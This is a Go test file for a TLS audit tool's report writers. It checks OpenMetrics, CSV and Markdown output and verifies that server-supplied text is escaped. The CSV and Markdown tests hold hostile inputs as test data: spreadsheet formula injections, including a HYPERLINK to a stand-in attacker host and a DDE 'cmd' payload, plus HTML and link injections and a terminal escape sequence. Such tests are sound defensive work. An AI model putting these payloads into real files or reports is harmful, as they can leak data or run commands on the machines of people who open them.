package report

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/prometheus/common/expfmt"
	"github.com/prometheus/common/model"

	"github.com/tlsaudit/tlsaudit/scanner"
)

// parseMetrics parses an openmetrics report with the Prometheus text
// parser the node exporter's textfile collector uses.
func parseMetrics(t *testing.T, out []byte) map[string]map[string]float64 {
	t.Helper()
	p := expfmt.NewTextParser(model.LegacyValidation)
	families, err := p.TextToMetricFamilies(bytes.NewReader(out))
	if err != nil {
		t.Fatalf("not valid Prometheus text: %v\n%s", err, out)
	}
	got := map[string]map[string]float64{}
	for name, f := range families {
		got[name] = map[string]float64{}
		for _, m := range f.GetMetric() {
			var labels []string
			for _, l := range m.GetLabel() {
				labels = append(labels, l.GetName()+"="+l.GetValue())
			}
			got[name][strings.Join(labels, ",")] = m.GetGauge().GetValue()
		}
	}
	return got
}

// TestOpenMetrics checks the series a dashboard or alert reads: scan
// success, earliest expiry as probe_ssl_earliest_cert_expiry gives it,
// findings per severity without the accepted ones, and that a hostile
// name stays one label value.
func TestOpenMetrics(t *testing.T) {
	out := render(t, "openmetrics", Options{})
	if !bytes.HasSuffix(out, []byte("# EOF\n")) {
		t.Error("no # EOF at the end (OpenMetrics)")
	}
	m := parseMetrics(t, out)
	old := "target=old,host=old.example.com,port=443"
	for _, c := range []struct {
		name, labels string
		want         float64
	}{
		{"tlsaudit_scan_success", "target=api,host=api.example.com,port=443", 1},
		{"tlsaudit_scan_success", "target=down,host=down.example.com,port=443", 0},
		{"tlsaudit_ssl_earliest_cert_expiry", old, 1793491200}, // 2026-11-01
		{"tlsaudit_findings", old + ",severity=critical", 1},
		{"tlsaudit_findings", old + ",severity=high", 0}, // accepted until 2027
		{"tlsaudit_findings", "target=evil\\x1b[2J\\nname,host=evil.example.com,port=443,severity=high", 2},
		{"tlsaudit_check_errors", "target=evil\\x1b[2J\\nname,host=evil.example.com,port=443", 1},
		{"tlsaudit_last_run_timestamp_seconds", "", float64(fixtureStart.Unix() + 12)},
	} {
		v, ok := m[c.name][c.labels]
		if !ok || v != c.want {
			t.Errorf("%s{%s} = %v (present %v), want %v; have %v", c.name, c.labels, v, ok, c.want, m[c.name])
		}
	}
	if _, ok := m["tlsaudit_ssl_earliest_cert_expiry"]["target=down,host=down.example.com,port=443"]; ok {
		t.Error("an unreachable target has an expiry")
	}
}

// TestOpenMetricsGrade: a graded target has a tlsaudit_grade_info sample
// labelled with its letter; an ungraded one has none.
func TestOpenMetricsGrade(t *testing.T) {
	var buf bytes.Buffer
	w := newOpenMetrics(&buf, Meta{}, Options{})
	for _, r := range []ResultJSON{
		{Name: "graded", Host: "a.example.com", Port: 443, Grade: &GradeJSON{Letter: "A+"}},
		{Name: "ungraded", Host: "b.example.com", Port: 443, Grade: &GradeJSON{Ungraded: "no handshake"}},
	} {
		if err := w.WriteJSON(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(&Summary{}); err != nil {
		t.Fatal(err)
	}
	m := parseMetrics(t, buf.Bytes())
	if v, ok := m["tlsaudit_grade_info"]["target=graded,host=a.example.com,port=443,grade=A+"]; !ok || v != 1 {
		t.Errorf("tlsaudit_grade_info for the graded target: %v %v; have %v", v, ok, m["tlsaudit_grade_info"])
	}
	if len(m["tlsaudit_grade_info"]) != 1 {
		t.Errorf("an ungraded target has a grade sample: %v", m["tlsaudit_grade_info"])
	}
}

// TestCSV checks one row per finding, error and undecided check, and that
// no cell a spreadsheet would run as a formula gets through.
func TestCSV(t *testing.T) {
	rows, err := csv.NewReader(bytes.NewReader(render(t, "csv", Options{}))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 1+13 || strings.Join(rows[0], ",") != strings.Join(csvHeader, ",") {
		t.Fatalf("%d rows, header %v", len(rows), rows[0])
	}
	if rows[1][0] != "old" || rows[1][4] != "critical" || rows[1][5] != "cert-expired" {
		t.Errorf("first row %v, want old's critical cert-expired", rows[1])
	}
	// A hostile server chooses what its findings say.
	r := fixtureResults(t)[1]
	r.Target.Name = "=HYPERLINK(\"http://evil.example/\"&A1)"
	r.Findings[0].Message = "+cmd|' /C calc'!A0"
	r.Findings[1].Message = "-2+3"
	r.Findings[2].Message = "@SUM(1+1)\nsecond line"
	out := renderResults(t, "csv", fixtureMeta(), Options{}, []*scanner.Result{r})
	rows, err = csv.NewReader(bytes.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q would run as a formula", cell)
			}
			if strings.ContainsAny(cell, "\n\r") {
				t.Errorf("cell %q holds a line break", cell)
			}
		}
	}
	if !bytes.Contains(out, []byte(`'=HYPERLINK`)) || !bytes.Contains(out, []byte(`'@SUM(1+1)\nsecond line`)) {
		t.Errorf("defused cells missing:\n%s", out)
	}
}

// TestMarkdownEscapes checks that nothing a server sends becomes markup in
// a job summary or pull-request comment: no link, image, mention, HTML,
// or extra table cell.
func TestMarkdownEscapes(t *testing.T) {
	r := fixtureResults(t)[1]
	r.Target.Name = "a|b <img src=x> @team"
	r.Findings[0].Message = "[click](http://evil.example/) ![i](http://evil.example/i.png) **bold** `code`"
	out := string(renderResults(t, "markdown", fixtureMeta(), Options{}, []*scanner.Result{r}))
	for _, bad := range []string{"<img", " @team", "[click](", "![i]", "**bold**", "`code`"} {
		// Markdown text escapes with a backslash; HTML with entities.
		if strings.Contains(strings.ReplaceAll(out, `\`+bad[:1], ""), bad) {
			t.Errorf("markdown contains %q raw:\n%s", bad, out)
		}
	}
	for _, line := range strings.Split(out, "\n") {
		if strings.HasPrefix(line, "| ") && strings.Contains(line, "a|b") {
			t.Errorf("a | in a table cell is not escaped: %s", line)
		}
		if strings.HasPrefix(line, "| **CRITICAL**") && strings.Count(strings.ReplaceAll(line, `\|`, ""), "|") != 5 {
			t.Errorf("row does not have 4 cells: %s", line)
		}
	}
	if !strings.Contains(out, "<summary>a|b &lt;img src=x&gt; &#64;team") {
		t.Errorf("details summary not HTML-escaped:\n%s", out)
	}
}
